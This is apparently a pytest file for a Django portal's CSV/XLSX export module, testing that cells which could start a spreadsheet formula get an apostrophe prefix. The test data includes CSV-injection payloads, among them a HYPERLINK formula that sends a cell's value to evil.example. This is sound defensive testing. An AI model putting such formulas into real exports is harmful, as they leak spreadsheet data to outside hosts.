"""The one export module neutralises spreadsheet formulas in every CSV and XLSX cell (OWASP CSV injection)."""

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from menet_portal.exports import Column, export_response, neutralise
from menet_portal.tests.factories import InfoDayFactory, ParticipantFactory, RegistrationFactory
from participants.models import RegistrationStatus

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C2,"Kattintson ide")',
    "=1+1",
    "+36 30 123 4567",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
]


def _csv(response):
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_neutralise_prefixes_an_apostrophe_only_where_a_formula_could_start():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    assert neutralise("Kovács") == "Kovács"
    assert neutralise("a=1") == "a=1"
    assert neutralise(-5) == -5  # a number stays a number
    assert neutralise("") == ""


def test_csv_cells_starting_a_formula_get_a_leading_apostrophe():
    columns = [Column("Név", lambda v: v)]
    text = _csv(export_response(iter(HOSTILE), columns, "t", "csv"))
    body = text.splitlines()[1:]
    for value in HOSTILE:
        assert not any(line.lstrip('"').startswith(value[:1]) and value[:1] not in "\t\r" for line in body)
    assert body[0] == '"\'=HYPERLINK(""http://evil.example/?d=""&C2,""Kattintson ide"")"'
    assert body[1] == "'=1+1"


def test_xlsx_cells_are_strings_never_formulas():
    columns = [Column("Név", lambda v: v), Column("Szám", lambda v: 7)]
    texts = [*HOSTILE, "#N/A", "#DIV/0!", "Kovács Anna", "+36 30 123 4567"]  # error codes would be error cells
    response = export_response(iter(texts), columns, "t", "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in texts]  # XML reads CR as LF
    assert all(c.data_type == "s" for c in cells)
    assert all(row[1].data_type == "n" for row in sheet.iter_rows(min_row=2))


@pytest.mark.django_db
def test_participant_and_registration_exports_neutralise_names_and_cancel_reasons(login, coordinator):
    day = InfoDayFactory(library=coordinator.library)
    RegistrationFactory(
        info_day=day, status=RegistrationStatus.CANCELLED, cancel_reason="=1+1", cancelled_at=timezone.now(),
        participant=ParticipantFactory(family_name='=HYPERLINK("http://evil.example/","x")', given_name="@A1"),
    )
    client = login(coordinator)
    xlsx = client.get(reverse("participants:registration_list"), {"info_day": day.pk, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    row = next(sheet.iter_rows(min_row=2))
    assert row[0].value.startswith("=HYPERLINK") and row[0].data_type == "s"
    assert row[1].data_type == "s"
    assert row[-1].value == "=1+1" and row[-1].data_type == "s"

    text = _csv(client.get(reverse("participants:registration_list"), {"info_day": day.pk, "format": "csv"}))
    line = text.splitlines()[1]
    assert line.startswith('"\'=HYPERLINK') and ";'@A1;" in line and line.endswith(";'=1+1")

    text = _csv(client.get(reverse("participants:participant_list"), {"info_day": day.pk, "format": "csv"}))
    assert text.splitlines()[1].startswith('"\'=HYPERLINK')


@pytest.mark.django_db
def test_the_csv_template_reads_back_without_the_neutralising_apostrophe(login, coordinator):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from participants import imports

    client = login(coordinator)
    body = b"".join(client.get(reverse("participants:import_template"), {"format": "csv"}).streaming_content)
    assert b";'+36 20 765 4321;" in body
    rows = imports.read_file(SimpleUploadedFile("minta.csv", body))
    assert rows[1]["phone"] == "+36 20 765 4321"
    assert all(o.ok for o in imports.check_rows(rows, InfoDayFactory(), viewer=None))


@pytest.mark.django_db
def test_display_is_get_display_in_every_language():
    """menet_portal.exports.display (the labels read once per language) gives what Django's
    get_<field>_display gives, for every choice and an unknown value, in Hungarian and English."""
    from django.utils import translation

    from menet_portal.exports import display
    from participants.models import Participant, Registration, RegistrationSource, RegistrationStatus, TargetGroup

    for language in ("hu", "en", "hu"):
        with translation.override(language):
            for model, field, values in ((Participant, "target_group", TargetGroup.values),
                                         (Registration, "status", RegistrationStatus.values),
                                         (Registration, "source", RegistrationSource.values)):
                for value in [*values, "ismeretlen"]:
                    row = model(**{field: value})
                    assert display(row, field) == getattr(row, f"get_{field}_display")(), (language, field, value)
